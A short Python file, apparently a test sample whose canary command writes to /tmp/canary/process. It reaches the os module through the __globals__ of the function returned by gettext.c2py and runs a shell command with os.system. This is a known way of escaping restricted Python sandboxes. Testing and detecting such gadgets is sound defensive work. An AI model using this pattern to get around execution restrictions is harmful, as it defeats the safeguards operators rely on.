# source: own
# effect: process

import gettext

gettext.c2py("n")
plural = gettext.c2py.__globals__
plural["os"].system("echo code/gettext_plural > /tmp/canary/process")
